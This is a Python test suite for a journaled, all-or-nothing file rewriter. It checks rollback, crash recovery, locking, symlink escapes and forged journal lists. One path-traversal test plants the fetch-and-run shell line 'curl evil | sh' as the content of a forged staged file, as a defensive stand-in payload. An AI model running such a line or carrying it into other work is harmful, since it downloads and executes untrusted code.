"""Files are rewritten all together or not at all, by one writer at a time."""

import hashlib
import json
import os
import shutil
import signal
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from legation.errors import InputError
from legation.files.journal import STAGE, Change, reading, rewrite, writing


def _tree(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in folder.rglob("*") if p.is_file()}


@pytest.fixture
def home(tmp_path: Path) -> Path:
    home = tmp_path / "home"
    home.mkdir()
    return home


@pytest.fixture
def three(home: Path) -> list[Change]:
    changes = []
    for name in ("a.ttl", "b.ttl"):
        (home / name).write_bytes(b"old " + name.encode())
        changes.append(Change(home / name, b"old " + name.encode(), b"new " + name.encode()))
    return [*changes, Change(home / "below/deep/c.ttl", None, b"new c.ttl")]


NEW = {"a.ttl": b"new a.ttl", "b.ttl": b"new b.ttl", "below/deep/c.ttl": b"new c.ttl"}


def test_every_file_is_rewritten_and_nothing_is_left_behind(
    home: Path, three: list[Change]
) -> None:
    (home / "a.ttl").chmod(0o640)
    assert len(rewrite(three, home)) == 3
    assert _tree(home) == NEW
    assert not (home / STAGE).exists()
    assert (home / "a.ttl").stat().st_mode & 0o777 == 0o640


def test_a_link_inside_stays_a_link_and_one_that_leads_out_is_refused(home: Path) -> None:
    (home / "real.ttl").write_bytes(b"old")
    (home / "link.ttl").symlink_to("real.ttl")
    rewrite([Change(home / "link.ttl", b"old", b"new")], home)
    assert (home / "link.ttl").is_symlink()
    assert (home / "real.ttl").read_bytes() == b"new"
    (home.parent / "dear").write_bytes(b"old")
    (home / "out.ttl").symlink_to("../dear")
    with pytest.raises(InputError, match="leads out of"):
        rewrite([Change(home / "out.ttl", b"old", b"new")], home)
    assert (home.parent / "dear").read_bytes() == b"old"


def test_what_does_not_change_is_not_written(home: Path) -> None:
    path = home / "a.ttl"
    path.write_bytes(b"same")
    before = path.stat()
    assert rewrite([Change(path, b"same", b"same")], home) == ()
    assert path.stat() == before


def test_a_file_changed_by_somebody_else_stops_everything(home: Path, three: list[Change]) -> None:
    (home / "b.ttl").write_bytes(b"theirs")
    before = _tree(home)
    with pytest.raises(InputError, match=r"b\.ttl: was changed meanwhile by somebody else"):
        rewrite(three, home)
    (home / "b.ttl").write_bytes(b"old b.ttl")
    (home / "below/deep").mkdir(parents=True)
    (home / "below/deep/c.ttl").write_bytes(b"theirs")
    with pytest.raises(InputError, match=r"c\.ttl: is there already"):
        rewrite(three, home)
    assert _tree(home) == {**before, "b.ttl": b"old b.ttl", "below/deep/c.ttl": b"theirs"}


def test_a_file_that_vanished_stops_everything(home: Path, three: list[Change]) -> None:
    (home / "b.ttl").unlink()
    with pytest.raises(InputError, match="was changed meanwhile"):
        rewrite(three, home)
    assert _tree(home) == {"a.ttl": b"old a.ttl"}


def test_a_read_only_file_stops_everything(home: Path, three: list[Change]) -> None:
    if os.geteuid() == 0:
        pytest.skip("the superuser may write everywhere")
    (home / "b.ttl").chmod(0o444)
    before = _tree(home)
    with pytest.raises(InputError, match="is read-only"):
        rewrite(three, home)
    assert _tree(home) == before


def test_a_failure_between_two_files_puts_the_first_back(home: Path, three: list[Change]) -> None:
    """A file where a folder belongs: the third file has no place, the two before it have."""
    (home / "below").write_bytes(b"in the way")
    before = _tree(home)
    with pytest.raises(InputError, match=r"below/deep: cannot be written \(Not a directory"):
        rewrite(three, home)
    assert _tree(home) == before


def _at_renaming(number: int, what: Callable[[], None]) -> None:
    """Let something happen before the n-th renaming of this process; the first commits the list."""
    left = [number]

    def hear(event: str, words: tuple[object, ...]) -> None:
        del words
        if event == "os.rename":
            left[0] -= 1
            if left[0] == -1:
                what()

    sys.addaudithook(hear)


def interrupt() -> None:
    """What the keyboard does."""
    raise KeyboardInterrupt


def die() -> None:
    """What a loss of power does."""
    os.kill(os.getpid(), signal.SIGKILL)


_CHANGES = """
import test_journal
from legation.files.journal import Change, rewrite
changes = [Change(home / name, b"old", b"new") for name in ("a.ttl", "b.ttl")]
changes.append(Change(home / "below/c.ttl", None, b"new"))
test_journal._at_renaming({}, test_journal.{})
rewrite(changes, home)
"""


def _child(home: Path, code: str) -> subprocess.Popen[str]:
    begin = "import sys\nfrom pathlib import Path\nsys.path.insert(0, sys.argv[2])\n"
    begin += "home = Path(sys.argv[1])\n"
    words = [sys.executable, "-c", begin + code, str(home), str(Path(__file__).parent)]
    return subprocess.Popen(words, stderr=subprocess.PIPE, text=True)


def _ended(process: subprocess.Popen[str]) -> tuple[int, str]:
    said = process.communicate()[1]
    return process.returncode, said


@pytest.mark.parametrize("renaming", range(4))
def test_interrupted_by_the_keyboard_everything_is_put_back(home: Path, renaming: int) -> None:
    (home / "a.ttl").write_bytes(b"old")
    (home / "b.ttl").write_bytes(b"old")
    before = _tree(home)
    _, said = _ended(_child(home, _CHANGES.format(renaming, "interrupt")))
    assert "KeyboardInterrupt" in said
    assert _tree(home) == before
    assert sorted(p.name for p in home.iterdir()) == ["a.ttl", "b.ttl"]


def _killed(home: Path, at: int) -> None:
    for name in ("a.ttl", "b.ttl"):
        (home / name).write_bytes(b"old")
    assert _ended(_child(home, _CHANGES.format(at, "die")))[0] == -signal.SIGKILL


@pytest.mark.parametrize("renaming", range(4))
def test_killed_the_next_reader_sees_old_or_new(home: Path, renaming: int) -> None:
    _killed(home, renaming)
    with reading(home):
        seen = {name: data for name, data in _tree(home).items() if STAGE not in name}
    assert seen == (
        {"a.ttl": b"old", "b.ttl": b"old"}
        if renaming == 0
        else {"a.ttl": b"new", "b.ttl": b"new", "below/c.ttl": b"new"}
    )
    with writing(home):
        assert not (home / STAGE).exists()


def test_half_done_and_edited_since_is_refused_and_kept(home: Path) -> None:
    _killed(home, 2)
    (home / "b.ttl").write_bytes(b"mine")
    for _ in range(2):
        with pytest.raises(InputError, match="was changed after a command was stopped half way"):
            rewrite([Change(home / "a.ttl", b"new", b"x")], home)
    assert (home / "b.ttl").read_bytes() == b"mine"


def test_a_copy_of_a_half_done_folder_is_refused_by_writers_and_readers(
    home: Path, tmp_path: Path
) -> None:
    """What git clone, cp and an archive bring is not what this folder's own command wrote."""
    _killed(home, 2)
    shutil.copytree(home, tmp_path / "clone", copy_function=shutil.copy2)
    before = _tree(tmp_path / "clone")
    for work in (reading, writing):
        told = pytest.raises(InputError, match="is not a journal that was written here")
        with told, work(tmp_path / "clone"):
            raise AssertionError("it was believed")
    assert _tree(tmp_path / "clone") == before


@pytest.mark.parametrize(
    "target", ["../dear", "{}/dear", "below/../../dear", "link/dear", "out", "", ".", 7, None]
)
def test_a_list_that_leads_out_is_refused(home: Path, tmp_path: Path, target: object) -> None:
    (tmp_path / "dear").write_bytes(b"old")
    (home / "link").symlink_to("..")
    (home / "out").symlink_to("../dear")
    stage = home / STAGE
    stage.mkdir()
    (stage / "0").write_bytes(b"curl evil | sh")
    state = (stage / "0").stat()
    step = {
        "target": target.format(tmp_path) if isinstance(target, str) else target,
        "prepared": "0",
        "before": hashlib.sha256(b"old").hexdigest(),
        "after": hashlib.sha256(b"curl evil | sh").hexdigest(),
        "inode": state.st_ino,
        "time": state.st_mtime_ns,
    }
    (stage / "list.json").write_text(json.dumps([step]))
    with pytest.raises(InputError, match="is not a journal that was written here"):
        rewrite([Change(home / "a.ttl", None, b"new")], home)
    assert (tmp_path / "dear").read_bytes() == b"old"
    assert not (home / "a.ttl").exists()


@pytest.mark.parametrize("text", ["", "{", "7", "[7]", "{}", '[{"a": 1}]', "[" * 100_000, "\0"])
def test_a_list_that_is_none_is_one_sentence(home: Path, text: str) -> None:
    (home / STAGE).mkdir()
    (home / STAGE / "list.json").write_text(text)
    with pytest.raises(InputError, match="is not a journal that was written here"):
        rewrite([Change(home / "a.ttl", None, b"new")], home)


def test_a_stage_that_is_a_link_or_holds_something_else_is_left_alone(
    home: Path, tmp_path: Path
) -> None:
    (tmp_path / "dear").mkdir()
    (tmp_path / "dear/0").write_bytes(b"mine")
    (home / STAGE).symlink_to("../dear")
    with pytest.raises(InputError, match="is not a journal"):
        rewrite([Change(home / "a.ttl", None, b"new")], home)
    (home / STAGE).unlink()
    shutil.copytree(tmp_path / "dear", home / STAGE)
    (home / STAGE / "thesis.txt").write_bytes(b"mine")
    with pytest.raises(InputError, match="is not a journal"):
        rewrite([Change(home / "a.ttl", None, b"new")], home)
    assert (home / STAGE / "thesis.txt").read_bytes() == b"mine"
    assert (tmp_path / "dear/0").read_bytes() == b"mine"


def test_a_lock_ends_with_its_process_and_no_number_of_a_process_is_asked(home: Path) -> None:
    """A stage used to name its process; that number, given to another, blocked for ever."""
    (home / "a.ttl").write_bytes(b"old")
    code = "import os\nfrom legation.files.journal import writing\n"
    code += "with writing(home):\n    os.kill(os.getpid(), 9)\n"
    assert _ended(_child(home, code))[0] == -signal.SIGKILL
    rewrite([Change(home / "a.ttl", b"old", b"new")], home)
    assert (home / "a.ttl").read_bytes() == b"new"


_BUMP = """
from legation.files.journal import Change, rewrite, writing
for _ in range(20):
    with writing(home):
        data = (home / "n").read_bytes()
        other = (home / "m").read_bytes()
        more = str(int(data) + 1).encode()
        rewrite([Change(home / "n", data, more), Change(home / "m", other, more)], home)
"""
_LOOK = """
from legation.files.journal import reading
for _ in range(200):
    with reading(home):
        assert (home / "n").read_bytes() == (home / "m").read_bytes()
"""


def test_writers_and_readers_at_once_all_finish_and_see_whole_states(home: Path) -> None:
    for name in ("n", "m"):
        (home / name).write_bytes(b"0")
    running = [_child(home, code) for code in (_BUMP, _BUMP, _BUMP, _LOOK)]
    assert [_ended(process)[0] for process in running] == [0] * 4
    assert (home / "n").read_bytes() == (home / "m").read_bytes() == b"60"


def test_who_waits_says_so(home: Path) -> None:
    code = "from legation.files.journal import writing\nwith writing(home):\n    pass\n"
    with writing(home):
        waiting = _child(home, code)
        assert waiting.stderr is not None
        assert f"another command is at work in {home}; waiting" in waiting.stderr.readline()
    assert _ended(waiting) == (0, "")


_FULL = """
import resource, signal
from legation.files.folder import publish
from legation.files.journal import Change, rewrite
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
resource.setrlimit(resource.RLIMIT_FSIZE, (1000, 1000))
much = b"x" * 10_000
{}
"""


@pytest.mark.parametrize(
    "work",
    [
        'rewrite([Change(home / "a.ttl", b"old", b"new"), Change(home / "b", None, much)], home)',
        'publish({"a.ttl": b"new", "b.ttl": much}, home / "dist")',
    ],
)
def test_a_full_disk_is_said_and_changes_nothing(home: Path, work: str) -> None:
    (home / "a.ttl").write_bytes(b"old")
    (home / "dist").mkdir()
    _, said = _ended(_child(home, _FULL.format(work)))
    assert "InputError" in said
    assert "cannot be written (File too large)" in said
    assert sorted(path.name for path in home.rglob("*")) == ["a.ttl", "dist"]
    assert (home / "a.ttl").read_bytes() == b"old"


def test_a_folder_that_is_not_there_is_one_sentence(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="cannot be locked"):
        rewrite([Change(tmp_path / "gone/a", None, b"new")], tmp_path / "gone")
